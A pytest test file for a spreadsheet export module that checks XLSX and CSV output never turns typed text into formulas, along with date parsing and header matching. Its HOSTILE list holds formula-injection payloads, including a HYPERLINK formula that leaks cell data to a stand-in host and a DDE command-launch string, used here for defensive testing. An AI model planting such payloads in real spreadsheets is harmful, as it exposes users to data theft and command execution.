"""The kernel spreadsheet module: cells read back as what they were, and text never becomes a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from gonghui.common.sheets import cells
from gonghui.common.sheets.writing import MONEY, NOT_IN_XML, XlsxWriter, csv_chunks, csv_safe

HOSTILE = [
    '=HYPERLINK("//evil.example/"&INDIRECT("G"&ROW()),"点此")',
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "=cmd|' /C calc'!A0",
]


def _read_back(content: bytes) -> list[list[object]]:
    ws = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_workbook_stores_typed_text_as_text_never_as_a_formula(value):
    book = XlsxWriter(creator="测试")
    sheet = book.sheet("名册")
    sheet.row(["姓名"], bold=True)
    sheet.row([value])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    cell = ws["A2"]
    assert cell.data_type == "s"
    assert cell.value == value


@given(st.text(min_size=1, max_size=40))
def test_any_text_comes_back_as_text_without_the_control_characters_a_workbook_cannot_hold(value):
    book = XlsxWriter()
    book.sheet("s").row([value, "后"])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    kept = NOT_IN_XML.sub("", value).replace("\r\n", "\n").replace("\r", "\n")  # XML line ends
    assert ws["B1"].value == "后"
    if kept.strip():
        assert ws["A1"].data_type == "s"
        assert ws["A1"].value.strip() == kept.strip()


def test_numbers_and_dates_stay_numbers_and_dates_with_their_formats():
    book = XlsxWriter()
    sheet = book.sheet("账")
    sheet.row([Decimal("1234.50"), date(2026, 1, 31), 3], formats={0: MONEY})
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws["A1"].value == 1234.5
    assert ws["A1"].number_format == MONEY
    assert ws["B1"].value.date() == date(2026, 1, 31)
    assert ws["C1"].value == 3


def test_wrapped_columns_wrap_their_text_at_the_top_and_others_do_not():
    book = XlsxWriter()
    book.sheet("报告", widths=(8, 30), freeze="A2").row([1, "很长的问题摘要", "短"], wrap={1})
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws["B1"].alignment.wrap_text is True
    assert ws["B1"].alignment.vertical == "top"
    assert not ws["A1"].alignment.wrap_text
    assert not ws["C1"].alignment.wrap_text
    assert ws.column_dimensions["B"].width == 30
    assert ws.freeze_panes == "A2"


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_prefixes_a_text_a_spreadsheet_would_evaluate(value):
    content = b"".join(csv_chunks([["导出人"], ["姓名"]], [[value, "王兰芳"]])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[2][0] == "'" + value
    assert rows[2][1] == "王兰芳"


def test_csv_leaves_plain_text_and_numbers_alone():
    assert csv_safe("王兰芳") == "王兰芳"
    assert csv_safe(-5) == -5
    assert csv_safe("13800000001") == "13800000001"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2020-01-31", date(2020, 1, 31)),
        ("2020/1/2", date(2020, 1, 2)),
        ("2020年1月", date(2020, 1, 1)),
        ("20200102", date(2020, 1, 2)),
        (43831, date(2020, 1, 1)),
        (date(2021, 5, 1), date(2021, 5, 1)),
    ],
)
def test_parse_date_reads_the_shapes_clerks_type(raw, expected):
    assert cells.parse_date(raw) == expected


@pytest.mark.parametrize("raw", ["", "明天", "2020-02-30", 10**9])
def test_parse_date_refuses_with_a_reason(raw):
    with pytest.raises(ValidationError):
        cells.parse_date(raw)


def test_header_index_matches_aliases_ignoring_spaces_brackets_and_stars():
    header = ["序号", " 金额（元）* ", "统一社会信用代码"]
    assert cells.header_index(header, {"amount": ("金额元",), "code": ("统一社会信用代码",), "x": ("无",)}) == {
        "amount": 1,
        "code": 2,
    }


def test_text_normalises_full_width_and_numbers():
    assert cells.text("１３８ ") == "138"
    assert cells.text(13.0) == "13"
    assert cells.text(None) == ""


@pytest.mark.parametrize("value", ["王\ufffe兰芳", "\uffff", "a\x00b", "x\x1by"])
def test_characters_xml_cannot_hold_are_dropped_and_the_workbook_stays_readable(value):
    book = XlsxWriter()
    book.sheet("s").row([value, "后"])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws["B1"].value == "后"
    assert (ws["A1"].value or "") == NOT_IN_XML.sub("", value)


@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_any_sheet_title_becomes_one_excel_takes(titles):
    book = XlsxWriter()
    for title in titles:
        book.sheet(title).row(["x"])
    names = load_workbook(io.BytesIO(book.to_bytes())).sheetnames
    assert len(names) == len(titles)
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
